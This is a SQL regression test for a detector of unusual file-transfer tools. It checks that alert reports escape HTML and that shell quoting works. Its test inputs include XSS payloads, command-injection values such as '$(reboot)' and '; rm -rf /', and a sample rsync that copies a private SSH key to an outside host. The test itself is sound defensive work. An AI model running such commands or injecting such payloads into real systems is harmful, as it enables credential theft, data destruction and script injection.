-- What an attacker types is text: on pages, in terminals and in shells.
BEGIN;
SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
SET LOCAL timezone = 'UTC';
SET LOCAL datestyle = 'ISO';
-- the rule as published, alone
UPDATE rules SET enabled = rule_id = 'unusual-file-transfer-utility-launched';
ALTER TABLE alerts ALTER COLUMN id RESTART;
ALTER TABLE exceptions ALTER COLUMN id RESTART;

-- the writers
SELECT html(E'<b>"a" & ''b''</b>'), html(E'a\u202eb\u200b\u0301\u00a0c\td\x1be'), html_attribute(E'"x\u202e"');
SELECT length(html(repeat('x', 100000))), html(repeat('x', 2000)) = repeat('x', 2000) AS whole;
SELECT html(repeat('<', 2001)) LIKE '%201 characters left out%' AS cut;
SELECT fill_html('`$1` *$2* $3 $9', ARRAY['$2', '`*<i>', NULL]), fill_plain('`$1` *$2* $3', ARRAY['$2', E'`\x1b[31m', NULL]);
SELECT fill_html('`a', '{}'), fill_html('', '{}'), fill_html('$', '{}'), fill_html('*<*', '{}');
SELECT markdown(E'# a\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1)) `<b>`');
SELECT shell_quote(v) FROM unnest(ARRAY['plain/path-1.txt', '', 'a b', 'it''s', '$(reboot)', '-rf', E'a\nb', E'\x1b[2J', '`id`', 'ä']) AS v;
SELECT guide_steps(E'x\n\n## A\n\n1. one\n   goes on <!-- answer: parent -->\n2. two\n\n## B\n\n1. no step\n'), guide_rest(E'## A\n\n1. one\n\n## B\n\n1. no step');
SELECT guide_steps('no list'), guide_rest('no list');
SELECT wrap('aa bb cc', 5), wrap('  aaaaaaa b', 5), wrap('', 5), wrap(E'a\nb', 5), wrap(repeat(U&'\4E2D', 6), 5);

-- an event with all of it, and one of an rsync without entity ids
INSERT INTO events (timestamp, host_os_type, event_type, event_action, process_name, process_executable, process_parent_executable,
	process_command_line, process_parent_command_line, process_pid, process_parent_pid, agent_id, host_name, user_name, document)
SELECT '2026-11-20 09:10Z', 'linux', '{start}', '{exec}', 'scp', '/usr/bin/scp', '/tmp/<img src=x onerror=alert(1)>', c.line, E'sh -c "<script>"\u202e', 100, 99, 'a', h.host, u.name,
	jsonb_build_object('@timestamp', '2026-11-20T09:10:00Z', 'host', jsonb_build_object('name', h.host), 'user', jsonb_build_object('name', u.name),
		'process', jsonb_build_object('pid', 100, 'name', 'scp', 'executable', '/usr/bin/scp', 'command_line', c.line, 'parent', jsonb_build_object('pid', 99)), '</pre><script>', '</script>')
FROM (VALUES (E'scp /tmp/.x<script>alert("1")</script>\u202e\u0301'' evil"host:`id`' || repeat(' <b>A', 20000))) AS c(line),
	(VALUES (E'host"><script>alert(2)</script>\u202e')) AS h(host), (VALUES (E'user<svg/onload=alert(3)>; rm -rf /')) AS u(name);
SELECT alerts_created FROM run(as_of => '2026-11-20 10:00Z');
CREATE TEMPORARY TABLE page AS SELECT alert_report(a.id) AS html FROM alerts AS a
	UNION ALL SELECT alert_report('2026-11-20 09:00Z', '2026-11-20 10:00Z');
SELECT bool_or(html ~* '<(script|img|b>A|svg/)|<[^>]*[^-"]\son\w+=') AS markup, bool_or(html ~ U&'[\202E\0301]') AS unseen, bool_and(length(html) < 200000) AS short,
	bool_and(html ~ 'U\+202E') AS by_number FROM page;
SELECT bool_or(c.what ~ U&'[\202E\0301]' OR c.host ~ U&'[\202E\0301]') AS unseen, max(length(l.line)) <= 64 AS narrow
FROM alerts AS a, alert_context(a.id) AS c, unnest(string_to_array(c.what, E'\n')) AS l(line);
SELECT action, left(command, 140) AS command FROM alerts AS a, alert_response(a.id);

-- parents by pid are guesses
INSERT INTO events (timestamp, host_os_type, event_type, event_action, process_name, process_executable, process_parent_executable, process_command_line, process_pid, process_parent_pid, agent_id, host_name, user_name)
VALUES ('2026-11-20 10:09Z', 'linux', '{start}', '{exec}', 'bash', '/usr/bin/bash', '/usr/sbin/sshd', 'bash old', 70, 1, 'a', 'web-9', 'bob'),
	('2026-11-20 10:09:30Z', 'linux', '{start}', '{exec}', 'bash', '/usr/bin/bash', '/usr/sbin/sshd', 'bash new', 70, 1, 'a', 'web-9', 'bob'),
	('2026-11-20 10:10Z', 'linux', '{start}', '{exec}', 'rsync', '/usr/bin/rsync', '/usr/bin/bash', 'rsync -a /home/bob/.ssh/id_rsa drop@203.0.113.9:', 71, 70, 'a', 'web-9', 'bob'),
	('2026-11-20 10:11Z', 'linux', '{start}', '{exec}', 'bash', '/usr/bin/bash', '/usr/sbin/sshd', 'bash later', 70, 1, 'a', 'web-9', 'bob');
SELECT alerts_created FROM run(as_of => '2026-11-20 11:00Z');
SELECT c.section, c.what FROM alerts AS a, alert_context(a.id) AS c WHERE 'web-9' = ANY (a.host_names) AND c.section IN ('alert', 'reasons', 'process');
SELECT r.action, r.command, r.effect FROM alerts AS a, alert_response(a.id) AS r WHERE 'web-9' = ANY (a.host_names);
ROLLBACK;
